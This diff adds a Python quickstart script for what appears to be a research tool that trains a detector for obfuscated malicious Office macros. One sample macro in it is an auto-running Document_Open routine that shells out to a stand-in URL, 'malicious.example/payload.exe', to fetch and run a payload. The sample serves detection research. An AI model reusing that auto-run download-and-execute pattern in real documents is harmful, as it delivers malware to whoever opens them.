@@ -1,0 +1,68 @@
+"""Quickstart: train an obfuscation detector and classify new macros.
+
+Runs in a few seconds::
+
+    python examples/quickstart.py
+"""
+
+from __future__ import annotations
+
+import random
+
+from repro import ObfuscationDetector
+from repro.corpus.benign import generate_benign_module
+from repro.corpus.malicious import generate_malicious_macro
+from repro.obfuscation.pipeline import default_pipeline
+
+
+def build_training_data(n_benign: int = 120, n_obfuscated: int = 60):
+    """Generate labeled training macros (normal vs obfuscated)."""
+    rng = random.Random(42)
+    sources, labels = [], []
+    for _ in range(n_benign):
+        sources.append(generate_benign_module(rng, target_length=rng.randint(200, 8000)))
+        labels.append(0)
+    pipeline = default_pipeline()
+    for index in range(n_obfuscated):
+        plain = generate_malicious_macro(rng, rng.choice(("word", "excel")))
+        sources.append(pipeline.run(plain, seed=index).source)
+        labels.append(1)
+    return sources, labels
+
+
+def main() -> None:
+    print("Generating training corpus...")
+    sources, labels = build_training_data()
+
+    print(f"Training MLP detector on {len(sources)} macros...")
+    detector = ObfuscationDetector("MLP").fit(sources, labels)
+
+    normal_macro = (
+        "Sub UpdateTotals()\n"
+        "    Dim lastRow As Long\n"
+        "    lastRow = Cells(Rows.Count, 1).End(xlUp).Row\n"
+        '    Range("B" & lastRow + 1).Formula = "=SUM(B2:B" & lastRow & ")"\n'
+        "End Sub\n"
+    )
+    obfuscated_macro = default_pipeline().run(
+        (
+            "Sub Document_Open()\n"
+            "    Dim u As String\n"
+            '    u = "http://malicious.example/payload.exe"\n'
+            "    Shell u, 0\n"
+            "End Sub\n"
+        ),
+        seed=7,
+    ).source
+
+    for name, macro in (("normal", normal_macro), ("obfuscated", obfuscated_macro)):
+        probability = detector.predict_proba([macro])[0][1]
+        verdict = "OBFUSCATED" if detector.predict([macro])[0] else "normal"
+        print(f"\n--- {name} sample ({len(macro)} chars) ---")
+        print(f"verdict: {verdict}  (P(obfuscated) = {probability:.3f})")
+
+    print("\nDone.")
+
+
+if __name__ == "__main__":
+    main()
